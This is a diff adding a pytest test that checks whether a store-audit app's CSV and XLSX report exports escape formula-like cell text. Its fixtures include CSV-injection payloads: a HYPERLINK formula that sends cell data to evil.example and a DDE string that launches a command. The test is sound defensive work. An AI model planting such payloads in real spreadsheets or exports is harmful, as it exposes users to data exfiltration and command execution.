@@ -89,3 +89,63 @@ def test_manager_exports_own_stores_without_shopper(client, auth, chain):
         data = download(client, f"/manager/reports/export/scores.{fmt}?month=2026-05")
         rows = read_csv(data) if fmt == "csv" else read_xlsx(data)
         assert [r["store_code"] for r in rows] == ["E001"]
+
+
+FORMULAS = {
+    "E001": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
+    "E002": "+1+cmd|' /C calc'!A0",
+    "N001": "-2+3",
+    "N002": "@SUM(A1:A9)",
+}
+
+
+def test_text_that_looks_like_a_formula_is_escaped(app, client, auth, chain):
+    """Store and region names that a spreadsheet would run as formulas (OWASP "CSV
+    Injection"): a CSV cell gets a leading apostrophe, an XLSX cell is stored as text
+    with the quote prefix; numbers stay numbers."""
+    from auditapp.extensions import db
+
+    for store in chain.stores:
+        store.name = FORMULAS[store.code]
+    chain.regions[0].name = "\tEast"
+    chain.regions[1].name = "\rNorth"
+    db.session.commit()
+    v0 = make_visit(chain, chain.stores[0])
+    for store in chain.stores[1:]:
+        make_visit(chain, store)
+    regions = {"E001": "\tEast", "E002": "\tEast", "N001": "\rNorth", "N002": "\rNorth"}
+
+    auth.login("hq@example.com")
+    for url in ("/hq/reports/export/scores.csv?month=2026-05",
+                "/hq/reports/export/visits.csv?month=2026-05"):
+        rows = read_csv(download(client, url))
+        assert {r["store_code"] for r in rows} == set(FORMULAS)
+        for row in rows:
+            assert row["store_name"] == "'" + FORMULAS[row["store_code"]]
+            assert row["region"] == "'" + regions[row["store_code"]]
+        if "scores" in url:
+            assert all(float(r["bdi"]) >= 0 for r in rows)  # still plain numbers
+    for url in ("/hq/reports/export/scores.xlsx?month=2026-05",
+                "/hq/reports/export/visits.xlsx?month=2026-05"):
+        data = download(client, url)
+        sheet = load_workbook(io.BytesIO(data)).active
+        header = [c.value for c in sheet[1]]
+        name_col, region_col = header.index("store_name"), header.index("region")
+        score_col = header.index("bdi" if "scores" in url else "score")
+        seen = set()
+        for row in sheet.iter_rows(min_row=2):
+            assert not any(c.data_type == "f" for c in row)  # no formula anywhere
+            code = row[header.index("store_code")].value
+            name, region, score = row[name_col], row[region_col], row[score_col]
+            assert name.value == FORMULAS[code] and name.data_type == "s" and name.quotePrefix
+            # (XML reads a lone CR back as LF)
+            assert region.value.strip() == regions[code].strip() and region.quotePrefix
+            assert score.data_type == "n" and not score.quotePrefix
+            seen.add(code)
+        assert seen == set(FORMULAS)
+
+    auth.logout()
+    auth.login("m.e001@example.com")
+    rows = read_csv(download(client, "/manager/reports/export/visits.csv?month=2026-05"))
+    assert [int(r["visit_id"]) for r in rows] == [v0.id]
+    assert rows[0]["store_name"] == "'" + FORMULAS["E001"]
